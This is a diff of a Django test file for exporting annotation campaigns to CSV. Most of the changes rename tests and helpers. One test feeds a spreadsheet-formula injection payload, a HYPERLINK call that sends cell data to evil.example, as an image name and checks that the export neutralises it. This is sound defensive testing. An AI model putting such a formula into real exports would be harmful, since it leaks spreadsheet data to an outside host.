@@ -38,16 +38,16 @@ def answers(campaign: Campaign, people: dict[str, Any], make_image: Callable[...
     return [first, second, skip]
 
 
-def exported(campaign: Campaign) -> str:
+def export_csv(campaign: Campaign) -> str:
     return b"".join(FORMATS["annotations-csv"].write(annotation_records(campaign))).decode()
 
 
-def rows(text: str) -> list[dict[str, str]]:
+def read_rows(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
-def test_every_row_is_there_with_what_it_replaced(campaign: Campaign, answers: list[Annotation]) -> None:
-    first, second, skip = rows(exported(campaign))
+def test_every_answer_is_exported_with_the_answer_it_supersedes(campaign: Campaign, answers: list[Annotation]) -> None:
+    first, second, skip = read_rows(export_csv(campaign))
     assert tuple(first) == AnnotationRecord._fields
     assert first["image"] == 'with "quotes", and commas.jpg'
     assert (first["score"], first["watch"], first["milliseconds"], first["supersedes"]) == ("3", "no", "900", "")
@@ -58,15 +58,17 @@ def test_every_row_is_there_with_what_it_replaced(campaign: Campaign, answers: l
 
 def test_other_campaigns_are_left_out(answers: list[Annotation]) -> None:
     other = Campaign.objects.create(slug="other", name="Other")
-    assert rows(exported(other)) == []
+    assert read_rows(export_csv(other)) == []
 
 
-def test_rows_come_in_one_query(campaign: Campaign, answers: list[Annotation], django_assert_num_queries: Any) -> None:
+def test_the_export_takes_one_query(
+    campaign: Campaign, answers: list[Annotation], django_assert_num_queries: Any
+) -> None:
     with django_assert_num_queries(1):
-        exported(campaign)
+        export_csv(campaign)
 
 
-def test_nothing_that_people_wrote_is_a_formula_for_a_spreadsheet(
+def test_text_from_users_is_never_a_spreadsheet_formula(
     campaign: Campaign, people: dict[str, Any], make_image: Callable[..., Image]
 ) -> None:
     people["alice"].username = "@alice"
@@ -78,7 +80,7 @@ def test_nothing_that_people_wrote_is_a_formula_for_a_spreadsheet(
         image=make_image(1, name='=HYPERLINK("http://evil.example/?"&A2)'),
         skip_reason="+1+1",
     )
-    (row,) = rows(exported(campaign))
+    (row,) = read_rows(export_csv(campaign))
     assert row["image"] == '\'=HYPERLINK("http://evil.example/?"&A2)'
     assert (row["annotator"], row["skip_reason"]) == ("'@alice", "'+1+1")
 
@@ -86,12 +88,14 @@ def test_nothing_that_people_wrote_is_a_formula_for_a_spreadsheet(
 @pytest.mark.parametrize(
     ("name", "status"), [("anonymous", 302), ("mallory", 404), ("alice", 403), ("rita", 200), ("ada", 200)]
 )
-def test_download_is_for_reviewers(client_of: Any, answers: list[Annotation], name: str, status: int) -> None:
+def test_only_reviewers_and_admins_can_download(
+    client_of: Any, answers: list[Annotation], name: str, status: int
+) -> None:
     response = client_of(name).get(reverse("annotations-csv", args=["watches"]))
     assert response.status_code == status
     if status == 200:
         assert response["Content-Disposition"] == 'attachment; filename="watches-annotations.csv"'
-        assert len(rows(b"".join(response.streaming_content).decode())) == 3
+        assert len(read_rows(b"".join(response.streaming_content).decode())) == 3
 
 
 def test_command_writes_to_a_file_or_standard_output(
@@ -101,11 +105,11 @@ def test_command_writes_to_a_file_or_standard_output(
     call_command("export_annotations", "watches", stdout=out)
     call_command("export_annotations", "watches", "--out", str(tmp_path / "a.csv"))
     assert (tmp_path / "a.csv").read_bytes().decode() == out.getvalue()
-    assert len(rows(out.getvalue())) == 3
+    assert len(read_rows(out.getvalue())) == 3
     assert not list(tmp_path.glob("*.part"))
 
 
-def test_command_says_what_is_wrong(campaign: Campaign, tmp_path: Path) -> None:
+def test_command_gives_an_error_message(campaign: Campaign, tmp_path: Path) -> None:
     with pytest.raises(CommandError, match="no campaign 'clocks'"):
         call_command("export_annotations", "clocks")
     with pytest.raises(CommandError, match="cannot be written"):
